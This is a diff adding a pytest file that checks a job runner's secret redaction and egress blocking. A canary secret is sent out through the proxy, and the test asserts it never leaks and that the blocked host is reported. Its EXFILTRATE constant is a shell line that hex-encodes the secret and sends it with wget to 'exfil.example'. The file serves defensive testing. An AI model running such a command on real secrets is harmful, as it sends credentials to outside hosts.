@@ -1,0 +1,98 @@
+"""The leak canary under `--network allow`: a step that tries to send its secret out.
+
+The canary spec prints the value every way it can; here each step also sends
+it through the job's proxy, to an allowed test server in the URL's query and
+to a host that is not allowed in the path, while the watcher looks at every
+container and process. runner's own output, files, events and the proxy's
+command line must hold none of it; the refused host is reported by name and
+port only.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.attack_support import (
+    Watcher,
+    base_env,
+    canary_spec,
+    events_of,
+    hits,
+    leak_forms,
+    proc_cmdlines,
+    run_cli,
+    runner_temp_leftovers,
+    scan_paths,
+)
+from tests.helpers import make_repo
+from tests.test_egress import serve
+
+pytestmark = [pytest.mark.docker, pytest.mark.slow]
+
+CANARY = 'Cn4ry/s3cr+t=v&l u%e"q\\z<>'
+# In hex (one of the value's registered forms), so that the URLs are valid and reach the proxy.
+EXFILTRATE = (
+    "h=$(printf '%s' \"$CANARY\" | od -An -tx1 -v | tr -d ' \\n'); "
+    'wget -q -O- "http://testhost:{port}/up?t=$h" >/dev/null 2>&1; '
+    'wget -q -O- "http://exfil.example/$h" >/dev/null 2>&1; echo tried'
+)
+
+
+def test_allow_runs_the_canary_with_zero_hits(tmp_path: Path, docker_client: Any) -> None:
+    home, tmp, out = tmp_path / "home", tmp_path / "tmp", tmp_path / "out"
+    tmp.mkdir()
+    repos = tmp_path / "repos"
+    make_repo(repos, "github.com/acme/app", {"README.md": "# app\n"})
+    env = base_env(RUNNER_HOME=str(home), TMPDIR=str(tmp), RUNNER_USER="alice")
+    assert run_cli(["secret", "set", "CANARY", "--user=alice"], env, input=CANARY).returncode == 0
+    forms = leak_forms([CANARY])
+    with serve("127.0.0.1") as port:
+        spec_text = canary_spec(title="egress", repositories=["github.com/acme/app"])
+        # Each step also tries to send the value out through the proxy.
+        spec_text = spec_text.replace(
+            "  - run: |\n", "  - run: |\n      " + EXFILTRATE.format(port=port) + "\n"
+        )
+        spec = tmp_path / "specs" / "egress.yaml"
+        spec.parent.mkdir()
+        spec.write_text(spec_text)
+        with Watcher(forms) as watcher:
+            proc = run_cli(
+                [
+                    "run",
+                    str(spec),
+                    "--repos-root",
+                    str(repos),
+                    "--out",
+                    str(out),
+                    "--json",
+                    "--network",
+                    "allow",
+                    "--allow-host",
+                    f"testhost:{port}",
+                    "--add-host",
+                    "testhost:127.0.0.1",
+                ],
+                env,
+            )
+    assert watcher.containers_seen, "the watcher never saw a step container"
+    assert proc.returncode == 0, proc.stderr
+    events = events_of(proc.stdout)
+    lines = [e["line"] for e in events if e["event"] == "step.output"]
+    assert lines.count("tried") == 2 and "plain [REDACTED:CANARY]" in lines
+    denied = [e for e in events if e["event"] == "step.egress_denied"]
+    assert [(e["step"], e["host"], e["port"]) for e in denied] == [
+        (1, "exfil.example", 80),
+        (2, "exfil.example", 80),
+    ]
+    summary = json.loads((out / "summary.json").read_text())
+    assert summary["egress_denied"] == 2
+
+    assert hits(proc.stdout.encode() + proc.stderr.encode(), forms) == []
+    assert sorted(watcher.found) == []
+    assert scan_paths([out, home, tmp, spec.parent], forms) == []
+    assert hits(proc_cmdlines(), forms) == []
+    assert runner_temp_leftovers(tmp) == []
